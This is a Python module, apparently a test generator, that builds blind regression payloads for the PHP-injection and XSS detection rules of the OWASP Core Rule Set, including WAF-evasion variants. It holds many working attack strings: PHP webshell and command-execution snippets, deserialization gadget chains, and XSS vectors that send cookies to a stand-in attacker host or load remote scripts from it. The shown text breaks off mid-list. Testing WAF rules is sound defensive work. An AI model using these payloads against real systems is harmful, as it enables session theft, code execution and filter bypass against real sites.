"""Blind set "hundredeighth": the positive regression tests a fourteenth rule author writes for the PHP-injection
and XSS request-rule titles of CRS 3.3.4 at paranoia levels 1-2 (and the few 4.x titles of the same families),
from the titles alone, with the bypasses published WAF-evasion write-ups use against each rule family.

Angle. For each detection title: the canonical attack the title names, one test per alternative the title's
family covers (every keyword, function, tag, attribute, stream, wrapper or encoding of that family), then the
evasions bug-bounty reports use against exactly that family: case mixing, comments or nothing inside and between
keywords, other whitespace (tab, newline, form feed), names built from parts (chr()/concatenation/strrev/
base64/rot13, JS string joins and escapes), alternative syntax the interpreter accepts (short and ASP tags,
callable strings, tagged templates, namespace-qualified names) and encodings the target decodes (double URL,
HTML entities with and without semicolons, JSON unicode escapes, %u and high-bit US-ASCII bytes, UTF-7).
Every evasion still works against the interpreter it targets (PHP 7/8, a browser's HTML and JS parsers, IE for
the IE-only vectors, AngularJS 1.x for template injection).

Families and sub-families (one sub-family per title, kebab-case from the title):
  php: php-open-tag, php-script-upload, php-config-directive, php-variables, php-io-stream, php-wrapper-scheme,
       php-function-name-high, php-function-call-high, php-serialized-object, php-variable-function,
       php-variable-function-expression, php-function-name-medium
  xss: xss-libinjection, xss-script-tag, xss-event-handler, xss-attribute-vector, xss-javascript-uri,
       xss-html-injection, xss-attribute-injection, xss-node-validator, the twelve "IE XSS Filters" titles at
       PL1 (ie-xss-filters-style, -vmlframe, -javascript-obfuscated, -vbscript, -embed, -import, -meta-http-equiv,
       -meta-charset, -link, -base, -applet, -object: the titles are identical, so each gets one of the IE8
       filter categories), xss-us-ascii-malformed, xss-utf7, xss-jsfuck, xss-js-global-variable,
       xss-libinjection-pl2, xss-disallowed-attributes, xss-html-tag-handler, the two PL2 IE titles
       (ie-xss-filters-string-property, ie-xss-filters-location-name), xss-angularjs-csti, and the 4.x titles
       xss-javascript-method and xss-function-without-parentheses.

Placements. Every payload is sent twice. Once to our real routes, rotating over: query of /api/users, form of
/admin/users/search with a csrf_token (now and then /me/settings), JSON of /api/users (now and then PATCH
/api/users/42 or an unsigned Slack event), cookie, User-Agent, Referer, another header (X-Requested-By),
a parameter name, an XML body, a multipart field or filename, the URL path. Once the way a WAF's regression
suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post,
/search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a
query string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, or in the
User-Agent, Referer, a custom header or a cookie. Upload filenames go to multipart filenames and X-Filename /
X-File-Name headers; the PL2 libinjection title's payloads go to the URL path and the Referer. A payload marked
raw is already in wire form (a %u, high-bit or CGI-argument query) and goes only where it is sent verbatim;
one marked jsonu goes only into JSON bodies, its characters written as \\uXXXX escapes.

Authorship and independence. Written from general knowledge of PHP, browsers and published WAF bypasses and
from the rule titles alone: no WAF rule, engine file, ruleset regression test or public payload list was read,
and no other blind set. The benign half carries the same words innocently (Slack messages, bios, searches,
names, addresses, documentation links, uploads, browser headers). Measured once, on unchanged code; the payloads
were not changed after the measurement. Deterministic (seeded random only).
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import SLACK_UA, print_records, slack_escape

NAME = "hundredeighth"

RAW = "raw"      # already in wire form: sent verbatim where a URL-encoded value goes
QS = "qs"        # a whole query string (CGI arguments), sent verbatim
JSONU = "jsonu"  # sent only in JSON bodies, written with \\uXXXX escapes

Entry = str | tuple[str, str]


def raw(s: str) -> tuple[str, str]:
    return (s, RAW)


def qs(s: str) -> tuple[str, str]:
    return (s, QS)


def ju(s: str) -> tuple[str, str]:
    return (s, JSONU)


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# --- PHP serialization, lengths computed so that unserialize() accepts every object ---------------------------
def ser_s(x: str) -> str:
    return f's:{len(x.encode())}:"{x}";'


def ser_o(cls: str, props: list[tuple[str, str]]) -> str:
    body = "".join(ser_s(k) + v for k, v in props)
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{{body}}}'


USER_OBJ = ser_o("User", [("username", ser_s("admin")), ("isAdmin", "b:1;")])
ARRAYOBJ_BODY = "x:i:0;a:0:{};m:a:0:{}"

# --- JSFuck and a Hieroglyphy-style variant (verified to evaluate in a JS engine) --------------------------------
_FUNC_SRC = "function filter() { [native code] }"


def _jnum(n: int, one: str = "+!+[]") -> str:
    if n == 0:
        return "+[]"
    if n == 1:
        return one
    return "+".join(["!+[]"] * n)


def _jidx(n: int, one: str = "+!+[]") -> str:
    if n < 10:
        return _jnum(n, one)
    return "+(" + "+".join("[" + _jnum(int(d), one) + "]" for d in str(n)) + ")"


def _jstr(s: str, bases: dict[str, str], one: str = "+!+[]") -> str:
    out = []
    for c in s:
        for word, expr in bases.items():
            if c in word:
                out.append(f"{expr}[{_jidx(word.index(c), one)}]")
                break
        else:
            out.append(f"({_jnum(int(c), one)}+[])")
    return "+".join(out)


_JSF_BASES = {"false": "(![]+[])", "true": "(!![]+[])", "undefined": "([][[]]+[])", "NaN": "(+[![]]+[])"}
_HIERO_BASES = {"[object Object]": "({}+[])", "NaN": "(+{}+[])", "false": "(![]+[])",
                "true": "(!![]+[])", "undefined": "([][+[]]+[])"}


def jsfuck(code: str, bases: dict[str, str] = _JSF_BASES, one: str = "+!+[]") -> str:
    flt = "[][" + _jstr("filter", bases, one) + "]"
    full = {**bases, _FUNC_SRC: f"({flt}+[])"}
    return f"{flt}[{_jstr('constructor', full, one)}]({_jstr(code, full, one)})()"


def utf7_block(s: str) -> str:
    return "+" + base64.b64encode(s.encode("utf-16-be")).decode().rstrip("=") + "-"


JSF_ALERT = jsfuck("alert(1)")
HIERO_ALERT = jsfuck("alert(1)", _HIERO_BASES, "+!![]")
JSF_FILTER = "[][" + _jstr("filter", _JSF_BASES) + "]"

SVG_ONLOAD_B64 = b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
SCRIPT_B64 = b64("<script>alert(1)</script>")

# --- the titles' payloads -----------------------------------------------------------------------------------
PHP_SUBS: list[tuple[str, list[Entry]]] = [
    # 933100 PHP Open Tag Found
    ("php-open-tag", [
        "<?php system($_GET['cmd']); ?>",
        "<?= shell_exec('id') ?>",
        '<? passthru("uname -a"); ?>',
        "<?PhP echo file_get_contents('/etc/passwd'); ?>",
        "<?php\tphpinfo();",
        "<?php\nsystem($_REQUEST[0]);",
        "<?php\r\n@eval($_POST['x']);\r\n?>",
        "<?=`id`?>",
        '<script language="php">system("id");</script>',
        "<script language=php>phpinfo()</script>",
        "<% system('id'); %>",
        "<%= `whoami` %>",
        "%3C%3Fphp%20system('id')%3B%20%3F%3E",
        ju("<?php system('id'); ?>"),
    ]),
    # 933110 PHP Script File Upload Found (file names)
    ("php-script-upload", [
        "shell.php", "avatar.php5", "cmd.phtml", "x.pHp", "backdoor.php7", "img.phar", "up.pht", "shell.php.jpg",
        "shell.php%00.jpg", "shell.php.", "shell.php::$DATA", "shell.php ", "shell.PHP4", "source.phps",
    ]),
    # 933120 Configuration Directive Found
    ("php-config-directive", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "auto_append_file=/var/www/uploads/avatar.jpg",
        "disable_functions=",
        "open_basedir = /",
        "allow_url_fopen = TRUE",
        "error_log=/var/www/html/shell.php",
        "engine=On\nauto_prepend_file=.htaccess",
        "php_value auto_prepend_file /tmp/sess_abc",
        "php_flag engine on",
        "extension=/tmp/evil.so",
        "sendmail_path=/tmp/x.sh",
        qs("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
        qs("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    ]),
    # 933130 Variables Found
    ("php-variables", [
        "$_GET['cmd']",
        "$_POST[0]",
        "$_REQUEST['x']",
        "$_COOKIE['sid']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$_FILES['f']['tmp_name']",
        "$_ENV['PATH']",
        "$_SESSION['is_admin']=1",
        "$GLOBALS['db_pass']",
        "$HTTP_RAW_POST_DATA",
        "${'_GET'}['c']",
        "$_SERVER /**/ ['DOCUMENT_ROOT']",
        "$GLOBALS\t['_SERVER']['SCRIPT_FILENAME']",
        '${"_RE"."QUEST"}[\'x\']',
    ]),
    # 933140 I/O Stream Found
    ("php-io-stream", [
        "php://input",
        "php://stdin",
        "php://output",
        "php://stderr",
        "php://fd/3",
        "php://memory",
        "php://temp/maxmemory:2097152",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "PhP://InPuT",
        "php://filter/convert.iconv.UTF-8.UTF-16/resource=php://input",
        "include('php://input');",
        "readfile('php://fd/0');",
        "php%3A%2F%2Finput",
    ]),
    # 933200 Wrapper scheme detected
    ("php-wrapper-scheme", [
        "expect://id",
        "ExPeCt://whoami",
        "phar://uploads/avatar.jpg/shell.php",
        "PHAR:///var/www/uploads/x.gif",
        "zip://uploads/archive.zip#shell.php",
        "compress.zlib://php://input",
        "compress.bzip2:///tmp/payload.bz2",
        "glob:///var/www/html/*.php",
        "data://text/plain;base64," + b64("<?php system($_GET[0]); ?>"),
        "data:text/plain,<?php phpinfo();?>",
        "ssh2.exec://user:pass@127.0.0.1:22/id",
        "rar://uploads/x.rar#shell.php",
        "ogg://attacker.example/sound.ogg",
        "expect%3A%2F%2Fid",
    ]),
    # 933150 High-Risk PHP Function Name Found
    ("php-function-name-high", [
        "passthru", "shell_exec", "ShElL_eXeC", "proc_open", "\\proc_open", "pcntl_exec", "base64_decode",
        "GzInFlAtE", "str_rot13", "create_function", "phpinfo", "fsockopen", "move_uploaded_file", "gzuncompress",
    ]),
    # 933160 High-Risk PHP Function Call Found
    ("php-function-call-high", [
        "system('id');",
        "exec('cat /etc/passwd', $o);",
        'shell_exec("wget http://attacker.example/s -O /tmp/s");',
        "passthru($_GET['c']);",
        "popen('id', 'r');",
        "eval($_POST['z']);",
        "assert($_REQUEST['a']);",
        "phpinfo();",
        "SyStEm('id');",
        "system /**/ ('id');",
        'system\t("id");',
        "system#x\n('id');",
        "\\system('id');",
        "eval(base64_decode('" + b64("system('id');") + "'));",
    ]),
    # 933170 Serialized Object Injection
    ("php-serialized-object", [
        USER_OBJ,
        USER_OBJ.replace("O:4:", "O:+4:", 1),
        "a:1:{i:0;" + ser_o("Template", [("file", ser_s("/etc/passwd"))]) + "}",
        f'C:11:"ArrayObject":{len(ARRAYOBJ_BODY)}:{{{ARRAYOBJ_BODY}}}',
        ser_o("Monolog\\Handler\\SyslogUdpHandler", [("\0*\0socket", ser_o("Monolog\\Handler\\BufferHandler", [
            ("\0*\0handler", "N;"), ("\0*\0buffer", 'a:1:{i:0;a:1:{i:0;s:2:"id";}}')]))]),
        ser_o("GuzzleHttp\\Psr7\\FnStream", [("methods", 'a:1:{s:5:"close";s:7:"phpinfo";}'),
                                            ("_fn_close", ser_s("phpinfo"))]),
        b64(USER_OBJ),
        urllib.parse.quote(USER_OBJ, safe=""),
        ser_o("Illuminate\\Broadcasting\\PendingBroadcast", [
            ("\0*\0events", ser_o("Illuminate\\Bus\\Dispatcher", [("\0*\0queueResolver", ser_s("system"))])),
            ("\0*\0event", ser_s("id"))]),
        ser_o("stdClass", [("data", ser_o("Exec", [("cmd", ser_s("id"))]))]),
        ju(USER_OBJ),
        "user|" + ser_o("stdClass", [("role", ser_s("admin"))]),
    ]),
    # 933180 Variable Function Call Found
    ("php-variable-function", [
        "$f='system';$f('id');",
        "$_GET['a']($_GET['b']);",
        "$_POST[0]($_POST[1]);",
        "$x=$_REQUEST['f'];$x('whoami');",
        "$a = 'sys'.'tem'; $a('id');",
        "$func ( 'id' );",
        "$f/**/('id');",
        "$f\n('id');",
        "$obj->$m('id');",
        "$$v('id');",
        "$f[0]($f[1]);",
        "${'_GET'}['f'](${'_GET'}['a']);",
        "$_COOKIE['c']($_COOKIE['d']);",
        "@$_SERVER['HTTP_X_F']($_SERVER['HTTP_X_A']);",
    ]),
    # 933210 Variable Function Call Found (string, concatenation and array callees)
    ("php-variable-function-expression", [
        '("sy"."stem")("id");',
        '"system"("id");',
        "'passthru'('id');",
        '["system"][0]("id");',
        r'("\x73\x79\x73\x74\x65\x6d")("id");',
        r'"\163\171\163\164\145\155"("id");',
        '(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))("id");',
        '(base64_decode("c3lzdGVt"))("id");',
        '(str_rot13("flfgrz"))("id");',
        '("SYSTEM")("id");',
        '("sys" . "tem") ( "id" );',
        '(strrev("metsys"))("id");',
        "('as'.'sert')($_POST[1]);",
        '(implode("",["sys","tem"]))("whoami");',
    ]),
    # 933151 Medium-Risk PHP Function Name Found (PL2)
    ("php-function-name-medium", [
        "array_map", "array_filter", "call_user_func", "usort", "register_shutdown_function", "ReAdFiLe",
        "\\highlight_file", "show_source", "ini_set", "putenv", "get_defined_vars", "symlink", "curl_exec",
        "iterator_apply",
    ]),
]

XSS_SUBS: list[tuple[str, list[Entry]]] = [
    # 941100 XSS Attack Detected via libinjection
    ("xss-libinjection", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        '"><svg/onload=alert(1)>',
        "'><img src=x onerror=prompt(1)>",
        "<body onload=alert(document.domain)>",
        '<a href="javascript:alert(1)">x</a>',
        "<ScRiPt>alert(1)</ScRiPt>",
        "<img src=x onerror=alert`1`>",
        "<details open ontoggle=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<input autofocus onfocus=alert(1)>",
        "<x onclick=alert(1)>click",
    ]),
    # 941110 XSS Filter - Category 1: Script Tag Vector
    ("xss-script-tag", [
        "<script>alert(1)</script>",
        "<script src=//attacker.example/x.js></script>",
        "<SCRIPT>alert(document.cookie)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\t>alert(1)</script>",
        "<script\n>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "<script type=\"text/javascript\">fetch('//attacker.example/?c='+document.cookie)</script>",
        "<script>alert(1)//",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        ju("<script>alert(1)</script>"),
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
    ]),
    # 941120 XSS Filter - Category 2: Event Handler Vector
    ("xss-event-handler", [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(document.domain)>",
        '<div onmouseover="alert(1)">hover me</div>',
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "<img src=x ONERROR=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>",
        '" onmouseover="alert(1)',
        '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>',
        '<video><source onerror="alert(1)"></video>',
        "<svg onload\x0c=alert(1)>",
    ]),
    # 941130 XSS Filter - Category 3: Attribute Vector
    ("xss-attribute-vector", [
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
        '<form><button formaction="javascript:alert(1)">Send</button></form>',
        '<input type="image" src="x" formaction="javascript:alert(1)">',
        f'<object data="data:text/html;base64,{SCRIPT_B64}"></object>',
        '<html xmlns:xss><?import namespace="xss" implementation="//attacker.example/x.htc"><xss:x>x</xss:x></html>',
        '<div style="background:url(javascript:alert(1))">',
        '<div style="width:expression(alert(1))">',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<img dynsrc="javascript:alert(1)">',
        '<img lowsrc="javascript:alert(1)">',
        '<svg><a XLINK:HREF="javascript:alert(1)"><text y="20">x</text></a></svg>',
        '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/>'
        '<a id="x"><text y="20">x</text></a></svg>',
    ]),
    # 941140 XSS Filter - Category 4: Javascript URI Vector
    ("xss-javascript-uri", [
        "javascript:alert(1)",
        '<a href="javascript:alert(document.cookie)">x</a>',
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        '<a href="javascript&colon;alert(1)">x</a>',
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#106avascript&#58alert(1)",
        "javascript:%61lert(1)",
        "javascript://%0aalert(1)",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<div style="background-image:url(javascript:alert(1))">x</div>',
    ]),
    # 941160 NoScript XSS InjectionChecker: HTML Injection
    ("xss-html-injection", [
        "<iframe src=//attacker.example></iframe>",
        "<object data=//attacker.example/x.swf></object>",
        "<embed src=//attacker.example/x.swf>",
        '<meta http-equiv="refresh" content="0;url=//attacker.example/login">',
        "<base href=//attacker.example/>",
        "<link rel=stylesheet href=//attacker.example/x.css>",
        "<form action=//attacker.example/login method=post><input name=user><input type=password name=pass>"
        "<button>Sign in</button></form>",
        "<applet code=Evil.class codebase=//attacker.example></applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<style>body{background:url(//attacker.example/?leak)}</style>",
        "<IfRaMe SrC=//attacker.example>",
        "<iframe/src=//attacker.example>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ]),
    # 941170 NoScript XSS InjectionChecker: Attribute Injection
    ("xss-attribute-injection", [
        '" onfocus="alert(1)" autofocus="',
        "' onmouseover='alert(1)",
        '"><img src=x onerror=alert(1)>',
        '" style="x:expression(alert(1))',
        '"autofocus/onfocus="alert(1)',
        'x" href="javascript:alert(1)',
        '" formaction="javascript:alert(1)',
        '" src=javascript:alert(1) "',
        '"/onmouseover=alert(1)//',
        '" accesskey="x" onclick="alert(1)',
        '" onpointerover="alert(1)',
        '1" onerror="alert(1)',
        "%22%20onmouseover%3D%22alert(1)",
        "'\tonfocus='alert(1)'\tautofocus='",
    ]),
    # 941180 Node-Validator Blacklist Keywords
    ("xss-node-validator", [
        "document.cookie",
        "'+document.cookie+'",
        "\";fetch('//attacker.example/?c='+document.cookie);//",
        "document.write('<img src=//attacker.example/'+document.cookie+'>')",
        "this.parentNode.removeChild(this)",
        "x.innerHTML=location.hash.slice(1)",
        "window.location='//attacker.example/?'+document.cookie",
        '<div style="-moz-binding:url(//attacker.example/xbl.xml#x)">',
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "--><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        r"document.\u0063ookie",
        "window['loca'+'tion']='//attacker.example'",
        "document/**/.cookie",
    ]),
    # 941190 IE XSS Filters (style: @import, expression, url)
    ("ie-xss-filters-style", [
        "<style>@import 'javascript:alert(1)';</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        '<style>body{background:url("javascript:alert(1)")}</style>',
        "<style>*{x:expression(alert(1))}</style>",
        '<style>li{list-style-image:url("javascript:alert(1)")}</style>',
        "<style>@import url(//attacker.example/x.css);</style>",
        "<style>a{behavior:url(//attacker.example/x.htc)}</style>",
        "<style>*{width:exp/**/ression(alert(1))}</style>",
        '<STYLE type="text/css">BODY{-moz-binding:url("//attacker.example/xss.xml#x")}</STYLE>',
        "<style>@\\69mport 'x.css';</style>",
        "<style>x{background:u\\72l(javascript:alert(1))}</style>",
        "<style>*{x:exp\\ression(alert(1))}</style>",
    ]),
    # 941200 IE XSS Filters (VML frames)
    ("ie-xss-filters-vmlframe", [
        '<v:vmlframe src="//attacker.example/x.vml#xss">',
        '<html xmlns:v="urn:schemas-microsoft-com:vml"><v:vmlframe src="javascript:alert(1)"></v:vmlframe></html>',
        "<x:vmlframe src=//attacker.example/x.vml>",
        '<V:VMLFRAME SRC="//attacker.example/a.vml#a">',
        '<vmlframe src="data:text/html,x">',
        '<v:vmlframe/src="//attacker.example/x">',
        '<v:vmlframe style="behavior:url(#default#VML)" src="//attacker.example/x.vml">',
        '<v:rect style="behavior:url(#default#VML)"><v:vmlframe src="//attacker.example/x.vml#x"></v:vmlframe>'
        "</v:rect>",
        '<v:vmlframe src = "//attacker.example/x.vml">',
        "<v:vmlframe\tsrc=//attacker.example/x.vml>",
    ]),
    # 941210 IE XSS Filters (obfuscated javascript:)
    ("ie-xss-filters-javascript-obfuscated", [
        '<a href="j&#97;vascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
        '&#0000058alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        '<iframe src="jav\tascript:alert(1)"></iframe>',
        '<a href="javascript&#58;alert(1)">x</a>',
        '<a href="&#x4A;avascript:alert(1)">x</a>',
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="javas&Tab;cript:alert(1)">x</a>',
        '<a href="javas&NewLine;cript:alert(1)">x</a>',
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    ]),
    # 941220 IE XSS Filters (obfuscated vbscript:)
    ("ie-xss-filters-vbscript", [
        '<a href="vbscript:msgbox(1)">x</a>',
        "<img src=\"vbscript:msgbox('XSS')\">",
        '<a href="vb&#115;cript:msgbox(1)">x</a>',
        '<a href="&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;MsgBox(1)">x</a>',
        '<a href="VbScRiPt:MsgBox(1)">x</a>',
        '<a href="vbs&#x09;cript:msgbox(1)">x</a>',
        '<iframe src="vbscript:Execute(&quot;MsgBox(1)&quot;)"></iframe>',
        '<a href="vbscript&#58;msgbox(document.cookie)">x</a>',
        '<meta http-equiv="refresh" content="0;url=vbscript:msgbox(1)">',
        '<a href="&#118bscript:msgbox(1)">x</a>',
        '<a href="vb\tscript:msgbox(1)">x</a>',
        "vbscript:msgbox(document.cookie)",
    ]),
    # 941230 IE XSS Filters (embed)
    ("ie-xss-filters-embed", [
        '<embed src="//attacker.example/x.swf" allowscriptaccess=always>',
        f'<embed src="data:image/svg+xml;base64,{SVG_ONLOAD_B64}" type="image/svg+xml">',
        '<EMBED SRC="javascript:alert(1)">',
        "<embed/src=//attacker.example/x.swf>",
        '<embed type="text/html" src="//attacker.example/">',
        "<embed\tsrc=javascript:alert(1)>",
        "<embed src=javascript&colon;alert(1)>",
        '<eMbEd sRc="//attacker.example/evil.swf">',
        '<embed height=1 width=1 src="//attacker.example/a.pdf#FDF=javascript:alert(1)">',
        '<embed src="data:text/html,<script>alert(1)</script>">',
    ]),
    # 941240 IE XSS Filters (import / implementation)
    ("ie-xss-filters-import", [
        '<?import namespace="t" implementation="#default#time2">',
        '<import namespace="x" implementation="//attacker.example/x.htc">',
        '<HTML xmlns:t><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
        'to="XSS&lt;script defer&gt;alert(1)&lt;/script&gt;">',
        '<?IMPORT NAMESPACE="x" IMPLEMENTATION="//attacker.example/a.htc">',
        '<?import namespace = "x" implementation = "//attacker.example/a.htc">',
        '<?import namespace="v" implementation="#default#VML" ?>',
        '<?import namespace="x" implementation\t=\t"//attacker.example/x.htc">',
        '<html xmlns:xss><?import namespace="xss" implementation="//attacker.example/xss.htc"><xss:xss>XSS'
        "</xss:xss></html>",
        '<?import/namespace="x"/implementation="//attacker.example/a.htc">',
    ]),
    # 941250 IE XSS Filters (meta http-equiv)
    ("ie-xss-filters-meta-http-equiv", [
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{SCRIPT_B64}">',
        '<META HTTP-EQUIV="Set-Cookie" Content="SESSID=attacker">',
        '<meta http-equiv="Content-Type" content="text/html; charset=UTF-7">',
        '<meta/http-equiv="refresh"/content="0;url=//attacker.example">',
        '<meta http-equiv=refresh content="0;url=//attacker.example/phish">',
        '<meta http-equiv="&#114;efresh" content="0;url=javascript:alert(1)">',
        '<meta http-equiv="Link" content="<//attacker.example/x.css>; rel=stylesheet">',
        '<meta http-equiv\t=\t"refresh" content="0;URL=vbscript:msgbox(1)">',
        '<MeTa HtTp-EqUiV="ReFrEsH" CoNtEnT="0;url=javascript:alert(1)">',
    ]),
    # 941260 IE XSS Filters (meta charset)
    ("ie-xss-filters-meta-charset", [
        '<meta charset="UTF-7">',
        "<meta charset=x-imap4-modified-utf7>",
        '<META CHARSET="ISO-2022-JP">',
        "<meta/charset=utf-7>",
        '<meta content="text/html" charset="UTF-7">',
        '<meta charset = "utf-16">',
        "<meta\tcharset=UTF-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        '<meta name="x" charset="x-mac-farsi">',
        '<meta charset="Shift_JIS">',
    ]),
    # 941270 IE XSS Filters (link href)
    ("ie-xss-filters-link", [
        '<link rel="stylesheet" href="//attacker.example/x.css">',
        "<link rel=import href=//attacker.example/x.html>",
        '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
        "<link/rel=stylesheet/href=//attacker.example/x.css>",
        '<link rel="preload" as="script" href="//attacker.example/x.js">',
        '<link rel="stylesheet" href\t=\t"//attacker.example/x.css">',
        '<link rel="alternate" href="javascript:alert(1)">',
        "<LiNk HrEf=//attacker.example/x.css ReL=stylesheet>",
        '<link rel=stylesheet href="&#106;avascript:alert(1)">',
        '<link rel="prefetch" href="//attacker.example/?leak=1">',
    ]),
    # 941280 IE XSS Filters (base href)
    ("ie-xss-filters-base", [
        '<base href="//attacker.example/">',
        '<base href="javascript:alert(1)//">',
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base/href=//attacker.example/>",
        '<base target="_blank" href="https://attacker.example/">',
        '<base href\t=\t"//attacker.example/">',
        "<bAsE hReF=//attacker.example>",
        '<base href="https://attacker.example/static/"><script src="app.js"></script>',
        "<base href=&#47;&#47;attacker.example/>",
    ]),
    # 941290 IE XSS Filters (applet)
    ("ie-xss-filters-applet", [
        '<applet code="Evil.class" codebase="//attacker.example/"></applet>',
        '<APPLET CODE="x.class" ARCHIVE="//attacker.example/x.jar">',
        "<applet/code=x.class>",
        "<applet>",
        "<applet code=javascript:alert(1)></applet>",
        '<aPpLeT code="Exploit" archive="//attacker.example/e.jar" width=1 height=1></aPpLeT>',
        '<applet\tcode="x">',
        '<applet object="//attacker.example/x.ser">',
        '<applet code="x.class"><param name="url" value="javascript:alert(1)"></applet>',
    ]),
    # 941300 IE XSS Filters (object)
    ("ie-xss-filters-object", [
        '<object data="javascript:alert(1)">',
        '<object type="text/x-scriptlet" data="//attacker.example/x.sct"></object>',
        '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name="url" '
        'value="javascript:alert(1)"></object>',
        '<OBJECT CODETYPE="application/java" CODE="Evil.class">',
        f'<object data="data:text/html;base64,{SCRIPT_B64}">',
        "<object/data=//attacker.example/x.swf>",
        '<object data\t=\t"//attacker.example/x.html">',
        '<oBjEcT dAtA="//attacker.example/x.svg" tYpE="image/svg+xml">',
        '<object code="//attacker.example/x.class">',
        '<object data="jav&#x61;script:alert(1)">',
    ]),
    # 941310 US-ASCII Malformed Encoding XSS Filter
    ("xss-us-ascii-malformed", [
        raw("%BCscript%BEalert(%A2XSS%A2)%BC/script%BE"),
        raw("%BCscript%BEalert(1)%BC/script%BE"),
        raw("%BCimg%20src%3Dx%20onerror%3Dalert(1)%BE"),
        raw("%BCsvg/onload%3Dalert(1)%BE"),
        raw("%BCiframe%20src%3Djavascript:alert(1)%BE"),
        raw("%A2%BE%BCscript%BEalert(document.cookie)%BC/script%BE"),
        raw("%bcscript%bealert(1)%bc/script%be"),
        raw("%BCSCRIPT%BEalert(1)%BC%2FSCRIPT%BE"),
        raw("%BCbody%20onload%3Dalert(1)%BE"),
        raw("%25BCscript%25BEalert(1)%25BC/script%25BE"),
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
    ]),
    # 941350 UTF-7 Encoding IE XSS
    ("xss-utf7", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-script+AD4-alert(document.location)+ADw-/script+AD4-",
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
        "+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-svg/onload+AD0-alert(1)+AD4-",
        "+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-",
        utf7_block("<script>alert(1)</script>"),
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "+ADw-script+AD4-alert(+ACI-XSS+ACI-)+ADw-/script+AD4-",
        "+/v8 +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ]),
    # 941360 JSFuck / Hieroglyphy obfuscation detected
    ("xss-jsfuck", [
        JSF_ALERT,
        JSF_ALERT.replace("+", " + "),
        JSF_ALERT.replace(")+(", ")+\n("),
        JSF_FILTER,
        JSF_FILTER + "[" + _jstr("constructor", {**_JSF_BASES, _FUNC_SRC: f"({JSF_FILTER}+[])"}) + "]",
        _jstr("alert", _JSF_BASES),
        HIERO_ALERT,
        f'<img src=x onerror="{JSF_ALERT}">',
        "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]",
        '[]["filter"]["constructor"]("alert(1)")()',
    ]),
    # 941370 JavaScript global variable found
